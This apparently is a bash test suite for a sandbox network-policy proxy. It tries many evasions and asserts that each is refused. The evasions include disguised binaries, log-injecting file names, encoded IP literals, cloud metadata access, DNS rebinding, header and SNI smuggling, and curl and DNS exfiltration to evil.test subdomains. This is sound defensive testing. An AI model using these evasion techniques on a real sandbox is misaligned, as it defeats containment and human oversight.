#!/bin/bash
# Being taken for another: addresses, names and programs that are not what the policy means, each beside a control that passes.
. "$(dirname "$0")/world.sh"
. "$(dirname "$0")/lib.sh"
evade=$(dirname "$probe")/evade
cat >"$work/policy.yaml" <<'P'
version: 1
network_policies:
  one:
    endpoints:
      - {host: api.forge.test, ports: [80, 443], protocol: rest, enforcement: enforce, rules: [{allow: {method: GET, path: "/open/**"}}]}
      - {host: rebind.acme.test, port: 443, protocol: rest, enforcement: enforce, access: read-only}
      - {host: "*.pub.acme.test", ports: [80, 443], protocol: rest, enforcement: enforce, access: read-only}
      - {host: "10.20.0.5", port: 8080}
      - {host: 169.254.169.254, port: 9000}
    binaries:
      - {path: /sandbox/allowed}
      - {path: /usr/bin/curl}
      - {path: /usr/bin/python3}
P
start_gateway && ok "the gateway starts" || { not_ok "the gateway starts"; plan; exit 1; }
succeeds "a sandbox" openshell sandbox create --name demo --policy "$work/policy.yaml" --detach -- sleep infinity
put() { openshell sandbox exec -n demo -- sh -c "cat >$2 && chmod 755 $2" <"$1"; }
run() { timeout 60 "$bin/openshell" sandbox exec -n demo --timeout 30 -- "$@" 2>&1 </dev/null; }
code() { run curl -s --max-time 8 -k -o /dev/null -w '%{http_code}' "$@" | tail -c 3; }
tunnel() { run curl -s --max-time 8 -k -x http://10.200.0.1:3128 -o /dev/null -w '%{http_connect}' "$@" | tail -c 3; }
put "$evade" /sandbox/evade
put "$evade" /sandbox/allowed
# passes WHAT COMMAND..., refused WHAT COMMAND...: a 200 or anything else but one
passes() { local what=$1 got; shift; if got=$(run "$@"); then ok "$what"; else not_ok "$what" "$got"; fi; }
refused() { local what=$1 got; shift; if got=$(run "$@"); then not_ok "$what" "$got"; else ok "$what: $(printf '%s' "$got" | tail -n 1 | cut -c1-100)"; fi; }

# ---- programs
passes "control: the program of the policy" /sandbox/allowed get api.forge.test 80
refused "another program" /sandbox/evade get api.forge.test 80
refused "asks, then becomes the program of the policy" /sandbox/evade become api.forge.test 80 /sandbox/allowed
refused "becomes it first, then asks over the old connection" /sandbox/evade become-early api.forge.test 80 /sandbox/allowed
refused "becomes another, with the connection of the policy's program" /sandbox/allowed become-early api.forge.test 80 /sandbox/evade
# handed HOW WHO ONCE|ON [SECONDS from the connect to the hand-over]
handed() { run sh -c "/sandbox/allowed give /tmp/door api.forge.test 80 $1 >/tmp/given & until grep -q ready /tmp/given 2>/dev/null; do :; done; sleep ${4:-0}; /sandbox/evade take /tmp/door api.forge.test $2 $3; code=\$?; wait; rm -f /tmp/door /tmp/given; exit \$code"; }
# With nothing asked before, at its first request; later ones within a second (a descriptor that moves is not seen at once). On a
# machine so busy that a look costs much, a look may be a second old: that is the promise, and then it is held to that.
for how in "keep once" "drop once" "ask on"; do
	for who in open hidden; do
		if got=$(handed ${how% *} $who ${how#* }) && got=$(handed ${how% *} $who ${how#* } 1.1); then
			not_ok "a connection that is handed on ($how, $who)" "$got"
		else
			ok "a connection that is handed on ($how, $who): $(printf '%s' "$got" | tail -n 1)"
		fi
	done
done

# A connection whose opener is gone when the proxy looks at it, while a program of the policy's has the same two ends.
world_forget
address=$(run getent hosts api.forge.test | awk '{ print $1 }')
proxy=$(pgrep -x proxy -P "$(supervisor_of demo)")
kill -STOP "$proxy"
run sh -c "/sandbox/evade ask-and-go $address 80 5501 api.forge.test && /sandbox/allowed ask-from $address 80 5501 api.forge.test" >"$work/same-ends" &
wait_for 20 grep -q asked "$work/same-ends"; kill -CONT "$proxy"
wait $!
said_gone() { openshell logs demo -n 2000 2>&1 | grep -q "who opened it is gone"; }
if wait_for 10 said_gone; then ok "who is gone is not taken for who has the same two ends now"; else not_ok "who is gone is not taken for who has the same two ends now" "$(openshell logs demo 2>&1 | tail -n 5)"; fi
unlike "what was asked by one who is gone is nobody's" "$(world_seen)" "/open/gone"
refused "data with the first packet" /sandbox/evade fast-open api.forge.test 80
refused "the loader runs the program of the policy" /lib64/ld-linux-x86-64.so.2 /sandbox/allowed get api.forge.test 80
run sh -c 'cp /sandbox/evade /sandbox/new; mv /sandbox/new /sandbox/copied' >/dev/null
refused "a copy under another name" /sandbox/copied get api.forge.test 80
refused "a link to it under another name" sh -c 'ln -sf /sandbox/evade /tmp/allowed; /tmp/allowed get api.forge.test 80'
# A name that would be a line of its own in the log.
run /usr/bin/python3 -c '
import os, shutil
os.makedirs("/sandbox/a\n[1.0] [sandbox] [OCSF ] [proxy] NET:OPEN [INFO] ALLOWED forged", exist_ok=True)
' >/dev/null
forged=$'/sandbox/a\n[1.0] [sandbox] [OCSF ] [proxy] NET:OPEN [INFO] ALLOWED forged/\e[2Jname'
run cp /sandbox/evade "$forged" >/dev/null
refused "a program whose name is a line of the log" "$forged" get api.forge.test 80
run cp /usr/bin/python3 "$forged" >/dev/null
refused "the same, changed" "$forged" -c "import urllib.request; urllib.request.urlopen('http://api.forge.test/open/x')"
run cp /usr/bin/python3 "$forged-2" >/dev/null
run "$forged-2" -c "
import socket, time
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(('93.184.216.34', 9999))
for i in range(400): # who has sent is found as long as it is there
    try: s.send(b'x')
    except OSError: pass
    time.sleep(0.1)" >/dev/null &
sender=$!
told() { openshell logs demo -n 2000 2>&1 | grep -qF "$1"; }
for what in 'NET:REFUSE [MED] DENIED TRANSPARENT denied api.forge.test:80 /sandbox/a\x0a' 'FINDING:CREATE [HIGH] DENIED /sandbox/a\x0a' 'BYPASS_DETECT 93.184.216.34:9999 proto=udp binary=/sandbox/a\x0a'; do
	if wait_for 10 told "$what"; then ok "it is told: $what"; else not_ok "it is told: $what" "$(openshell logs demo 2>&1 | tail -n 12)"; fi
done
kill $sender; wait $sender
unlike "and no line is forged" "$(openshell logs demo -n 2000 2>&1; openshell logs demo -n 2000 -o json 2>&1)" $'^\\[1\\.0\\]|\e\\[2J'
passes "control: the program of the policy, once more" /sandbox/allowed get api.forge.test 80
refused "the program replaced after its first use" sh -c 'cat /sandbox/evade >/sandbox/changed; echo changed >>/sandbox/changed; chmod 755 /sandbox/changed; mv /sandbox/changed /sandbox/allowed; /sandbox/allowed get api.forge.test 80'

# ---- addresses
is "control: by name" "$(code https://api.forge.test/open/x)" 200
unlike "the same address by number" "$(code https://93.184.216.34/open/x)" "200"
unlike "another address of an allowed host" "$(code --resolve api.forge.test:443:93.184.216.35 https://api.forge.test/open/x -x '')" "^200$"
for literal in 1572395042 0x5db8d822 0135.0270.0330.042 93.184.55330 93.184.216.034 '[::ffff:93.184.216.34]' 93.184.216.34.; do
	unlike "CONNECT to $literal" "$(tunnel "https://$literal/open/x")" "^200$"
done
for host in 169.254.169.254:9000 10.20.0.5:9000 127.0.0.1:9000 0.0.0.0:9000 localhost:9000 metadata.google.internal:80; do
	unlike "CONNECT to $host" "$(tunnel "https://$host/")" "^200$"
done
is "control: a public address behind a wildcard" "$(world_name good.pub.acme.test 93.184.216.34; code http://good.pub.acme.test/)" 200
for address in 10.1.2.3 100.64.1.1 198.18.0.9 169.254.169.254 127.0.0.1 fd00::1; do
	world_name "bad.pub.acme.test" "$address"
	unlike "a wildcard's name that leads to $address" "$(code http://bad.pub.acme.test/)" "^200$"
done

# ---- names
world_name rebind.acme.test 93.184.216.34
is "control: a name before it is bound anew" "$(code https://rebind.acme.test/)" 200
world_name rebind.acme.test 127.0.0.1
unlike "bound to loopback" "$(code https://rebind.acme.test/)" "^200$"
is "control: a field that names no path" "$(code -H 'X-Other-URL: /closed' https://api.forge.test/open/x)" 200
for field in X-Original-URL x-rewrite-url X-Original-URI X-Forwarded-Uri; do
	is "a field that names another path: $field" "$(code -H "$field: /closed" https://api.forge.test/open/x)$(code --http2 -H "$field: /closed" https://api.forge.test/open/x)" 403403
done
unlike "Host unlike the CONNECT name" "$(code -H 'Host: evil.test' https://api.forge.test/open/x)" "^200$"
sni() { run /usr/bin/python3 -c "
import socket, ssl
s = socket.create_connection(('10.200.0.1', 3128)); s.sendall(b'CONNECT api.forge.test:443 HTTP/1.1\r\nHost: api.forge.test:443\r\n\r\n')
assert b' 200 ' in s.recv(4096)
c = ssl.create_default_context(); c.check_hostname = False; c.verify_mode = ssl.CERT_NONE
t = c.wrap_socket(s, server_hostname='$1'); t.sendall(b'GET /open/x HTTP/1.1\r\nHost: api.forge.test\r\n\r\n'); print(t.recv(100).split(b'\r\n')[0])"; }
like "control: SNI like the CONNECT name" "$(sni api.forge.test)" "200 OK"
unlike "SNI unlike the CONNECT name" "$(sni evil.test)" "200 OK"
world_forget
for i in 1 2 3; do run curl -sS --max-time 3 "http://c2VjcmV0$i.evil.test/" >/dev/null; run curl -sS --max-time 3 -x http://10.200.0.1:3128 "http://c2VjcmV0$i.evil.test/" >/dev/null; done
run /usr/bin/python3 -c "
import socket
for i in range(20):
    try: socket.getaddrinfo('leak%d.tunnel.evil.test' % i, 80)
    except OSError: pass
    try: socket.getaddrinfo('leak%d.pub.acme.test' % i, 80)
    except OSError: pass" >/dev/null
unlike "nothing is tunnelled out by names: the name server was not asked" "$(world_seen)" 'evil.test|leak[0-9]'

# ---- other protocols
refused "UDP" sh -c 'echo x | timeout 3 nc -u -w1 93.184.216.34 9999 && exit 1; exit 1'
for what in "raw" "packet" "io-uring"; do put "$probe" /sandbox/probe; refused "$what" /sandbox/probe $what; done
refused "ICMP" /usr/bin/python3 -c "
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP); s.settimeout(2); s.sendto(b'\x08\0\xf7\xff\0\0\0\0', ('93.184.216.34', 0)); print(s.recv(100))"
refused "UDP over IPv6" /usr/bin/python3 -c "
import socket
s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); s.settimeout(2); s.connect(('2606:2800:220:1::34', 9999)); s.send(b'x'); print(s.recv(100))"
refused "SCTP" /usr/bin/python3 -c "
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132); s.settimeout(2); s.connect(('93.184.216.34', 80))"
# ---- what listens inside
listen='
import socket
taken = []
def take(family, kind, address, port):
    s = socket.socket(family, kind)
    for option in (socket.SO_REUSEADDR, socket.SO_REUSEPORT): s.setsockopt(socket.SOL_SOCKET, option, 1)
    for level, option in ((socket.SOL_IP, 19), (socket.SOL_IP, 15)):
        try: s.setsockopt(level, option, 1)
        except OSError: pass
    try:
        s.bind((address, port))
        if kind == socket.SOCK_STREAM: s.listen()
        taken.append("%s:%d" % (address, port))
    except OSError: pass
for address in "0.0.0.0", "127.0.0.1", "10.200.0.1", "93.184.216.34":
    for port in 15001, 3128: take(socket.AF_INET, socket.SOCK_STREAM, address, port)
    for kind in socket.SOCK_STREAM, socket.SOCK_DGRAM: take(socket.AF_INET, kind, address, 53)
for address in "::", "::1", "::ffff:127.0.0.1", "::ffff:10.200.0.1":
    for port in 15001, 3128: take(socket.AF_INET6, socket.SOCK_STREAM, address, port)
print(*taken)
'
taken=$(run /usr/bin/python3 -c "$listen")
like "control: an address that nobody listens at" "$taken" "127.0.0.1:3128"
unlike "no listener of ours can be taken or shadowed" "$taken" '(^| )((0\.0\.0\.0|::|::1|(::ffff:)?127\.0\.0\.1):15001|(0\.0\.0\.0|::|(::ffff:)?10\.200\.0\.1):3128|[^ ]*:53)( |$)'
refused "the transparent listener, asked directly" /sandbox/copied get 127.0.0.1 15001
refused "... over IPv6" /sandbox/copied get ::1 15001
plan
